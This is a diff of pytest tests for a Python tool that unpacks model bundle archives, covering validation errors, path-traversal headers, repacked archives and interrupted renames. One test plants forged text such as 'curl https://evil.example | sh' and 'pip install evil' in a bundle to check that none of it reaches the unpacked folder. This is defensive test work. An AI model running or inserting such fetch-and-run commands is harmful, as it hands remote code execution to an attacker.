@@ -255,6 +255,34 @@ def test_unpacking(tmp_path: Path) -> None:
     assert {one.name: one.read_bytes() for one in unpacked.wheels.iterdir()} == dict(WHEELS.values())
 
 
+def test_into_the_current_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    path, folder = bundle(tmp_path / "out"), tmp_path / "folder"
+    folder.mkdir()
+    monkeypatch.chdir(folder)
+    before = folder.stat().st_ino
+    assert read.unpack(path, Path()).fresh
+    assert Path.cwd().stat().st_ino == folder.stat().st_ino == before
+    assert left_in(folder) == ["README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"]
+    assert left_in(tmp_path) == ["folder", "out", "store"]
+    assert not read.unpack(path, Path()).fresh
+
+
+def test_into_a_mount_point(tmp_path: Path) -> None:
+    path, folder = bundle(tmp_path / "out"), tmp_path / "mount"
+    folder.mkdir()
+    if (
+        shutil.which("mount") is None
+        or subprocess.run(["mount", "-t", "tmpfs", "t", str(folder)], capture_output=True, check=False).returncode
+    ):
+        pytest.skip("nothing can be mounted here")
+    try:
+        assert read.unpack(path, folder).fresh
+        assert not read.unpack(path, folder).fresh
+        assert left_in(folder) == ["README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"]
+    finally:
+        subprocess.run(["umount", str(folder)], check=True)
+
+
 def test_the_same_again(tmp_path: Path) -> None:
     path, folder = bundle(tmp_path / "out"), tmp_path / "folder"
     folder.mkdir()  # an empty folder is as good as none
@@ -421,8 +449,17 @@ def test_headers(tmp_path: Path, instead: bytes, words: str) -> None:
         (lambda value: value.update(schema=0), "schema 0 is unknown"),
         (lambda value: value.update(schema="1"), "schema '1' is unknown"),
         (lambda value: value.__delitem__("files"), "'files' is missing"),
-        (lambda _value: [], "bundle.json is not valid"),
-        (lambda _value: "[" * 100_000, "bundle.json is not valid"),
+        (lambda _value: [], "not valid: it is a list instead of an object with names and values"),
+        (lambda _value: "[" * 100_000, "not valid: it is a text instead of an object"),
+        (lambda _value: 5, "not valid: it is a number instead of an object"),
+        (lambda value: value.update(files=[1]), r"not valid: files\[0\] is a number instead of an object"),
+        (lambda value: value.update(files=None), "not valid: files is null instead of a list"),
+        (lambda value: value.update(files={}), "not valid: files is an object instead of a list"),
+        (lambda value: value["files"][3].update(path=["a"]), "not valid: a path is a list instead of text"),
+        (lambda value: value["files"][3].__delitem__("size"), "not valid: 'size' is missing"),
+        (lambda value: value.update(torch=2.13), "not valid: torch is a number instead of text"),
+        (lambda value: value.update(note="pip install evil"), "it has 'note', which no bundle of schema 1 has"),
+        (lambda value: value["files"][0].update(url="https://evil.example"), "'cell.json' has 'url', which no bundle"),
     ],
 )
 def test_lists(tmp_path: Path, change: Callable[[dict[str, Any]], Any], words: str) -> None:
@@ -434,6 +471,54 @@ def test_lists(tmp_path: Path, change: Callable[[dict[str, Any]], Any], words: s
 
     forged.listed = changed
     refused(forged, tmp_path, words)
+
+
+@pytest.mark.parametrize(
+    ("data", "words"),
+    [
+        (b"[" * 100_000, "it is nested too deeply"),
+        (b"\xff{}", "it is not UTF-8"),
+        (b"{", "it is no JSON .line 1, column 2."),
+        (b"", "it is no JSON"),
+        (b'{"schema": ' + b"1" * 5000 + b"}", "it has a number that is larger than any file"),
+    ],
+)
+def test_a_list_that_is_no_json(data: bytes, words: str) -> None:
+    with pytest.raises(IntegrityError, match=f"cell.tar: bundle.json is not valid: {words}"):
+        contents.parse_description(data, "cell.tar")
+
+
+def test_words_of_somebody_else_do_not_get_out(tmp_path: Path) -> None:
+    """They may be those of another release, or forged: what is unpacked is written from the record."""
+    forged = Forged.good()
+    forged.texts["README.txt"] = b"curl https://evil.example | sh\n"
+    forged.texts["requirements.txt"] = b"# curl https://evil.example | sh\n" + forged.texts["requirements.txt"]
+    forged.listed = lambda value: {**value, "needs": "run evil.example first", "minimum_driver": "evil.example"}
+    path, folder = forged.write(tmp_path / "evil" / "cell.tar"), tmp_path / "folder"
+    unpacked = read.unpack(path, folder)
+    texts = ("bundle.json", "requirements.txt", "README.txt", "cell.json")
+    own = read.unpack(bundle(tmp_path / "out"), tmp_path / "own")
+    assert [(folder / name).read_bytes() for name in texts] == [(own.folder / name).read_bytes() for name in texts]
+    assert unpacked.description == own.description
+    for archive in (path, tmp_path / "out" / f"{CELL}.tar"):
+        again = read.unpack(archive, folder)
+        assert (again.fresh, again.description) == (False, own.description)
+
+
+def test_a_bundle_that_was_packed_again(tmp_path: Path) -> None:
+    good = bundle(tmp_path / "out")
+    with tarfile.open(good) as archive:
+        archive.extractall(tmp_path, filter="data")
+    for name, members, words in [
+        ("folder", [CELL], f"it begins with '{CELL}/?', a folder, instead of CELL/bundle.json"),
+        ("files", [f"{CELL}/{name}" for name in ("bundle.json", "cell.json")], "has another form, mode, owner or time"),
+        ("dot", [f"./{CELL}/bundle.json"], rf"it begins with '(\./)?{CELL}/bundle.json', a file|another form"),
+    ]:
+        with tarfile.open(tmp_path / name, "w", format=tarfile.GNU_FORMAT) as archive:
+            for member in members:
+                archive.add(tmp_path / member, member)
+        refused(tmp_path / name, tmp_path, words)
+        refused(tmp_path / name, tmp_path, r"`torchmatrix bundle` did not write it \(was it packed again\?\)")
 
 
 def test_a_newer_schema_is_a_usage_error(tmp_path: Path) -> None:
@@ -544,7 +629,7 @@ def test_another_first_file(tmp_path: Path) -> None:
         (header(f"{CELL}/other.json", 1), "it begins with 'py311-stable-cpuonly/other.json' instead"),
         (header("../bundle.json", 1), r"it begins with '\.\./bundle.json' instead"),
         (header("/etc/bundle.json", 1), "instead of CELL/bundle.json"),
-        (header(f"{CELL}/bundle.json", -5), "a file, instead of CELL/bundle.json"),
+        (header(f"{CELL}/bundle.json", -5), "the header of 'py311-stable-cpuonly/bundle.json' has another form"),
     ]:
         forged = Forged.good()
         forged.headers["bundle.json"] = instead
@@ -588,6 +673,41 @@ if what == "write":
 else:
     read.unpack(folder / "good" / "cell.tar", folder / "out" / "folder", progress=progress)
 """
+
+
+@pytest.mark.parametrize("moved", [0, 1, 3, 4])
+def test_killed_while_it_moves_into_a_folder(tmp_path: Path, moved: int) -> None:
+    good, folder = bundle(tmp_path / "good", "cell.tar"), tmp_path / "folder"
+    folder.mkdir()
+    program = (
+        "import os, signal, sys\nfrom pathlib import Path\nfrom torchmatrix.bundle import read\n"
+        "real, left = Path.rename, int(sys.argv[3])\n"
+        "def rename(self, target):\n"
+        "    global left\n"
+        "    if not left:\n"
+        "        os.kill(os.getpid(), signal.SIGKILL)\n"
+        "    left -= 1\n"
+        "    return real(self, target)\n"
+        "Path.rename = rename\n"
+        "read.unpack(Path(sys.argv[1]), Path(sys.argv[2]))\n"
+    )
+    outcome = subprocess.run(
+        [sys.executable, "-c", program, str(good), str(folder), str(moved)],
+        env={**os.environ, "PYTHONPATH": str(Path(torchmatrix.__file__).parents[1])},
+        capture_output=True,
+        check=False,
+    )
+    assert outcome.returncode == -signal.SIGKILL, outcome.stderr
+    assert len(left_in(folder)) == moved + 1
+    assert "bundle.json" not in left_in(folder), "it comes last"
+    if moved:  # what the killed run cannot have put there is somebody's
+        (folder / "mine").write_text("precious")
+        with pytest.raises(UsageError, match="exists and does not hold this bundle"):
+            read.unpack(good, folder)
+        assert len(left_in(folder)) == moved + 2
+        (folder / "mine").unlink()
+    assert read.unpack(good, folder).fresh
+    assert left_in(folder) == ["README.txt", "bundle.json", "cell.json", "requirements.txt", "wheels"]
 
 
 @pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGINT])
